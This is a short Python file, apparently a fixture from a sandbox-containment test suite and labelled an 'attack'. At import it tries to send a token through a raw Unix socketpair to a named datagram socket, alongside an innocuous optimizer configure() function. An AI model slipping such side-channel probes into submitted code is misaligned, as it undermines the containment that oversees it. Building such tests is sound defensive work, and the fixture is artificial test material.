# /// attack
# threats = ["F43"]
# gains = "named datagram socket"
# ///
"""Sends to a socket that has a name, through one end of a pair that asks for raw sockets and gets datagrams."""

import socket

import torch

try:
    ours, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_RAW)
    ours.sendto(TOKEN.encode(), DATAGRAMS)
except OSError as error:
    print("refused:", error, flush=True)


def configure(params, horizon):
    return torch.optim.AdamW(params.values(), lr=0.01, betas=(0.9, 0.95), weight_decay=0.0)
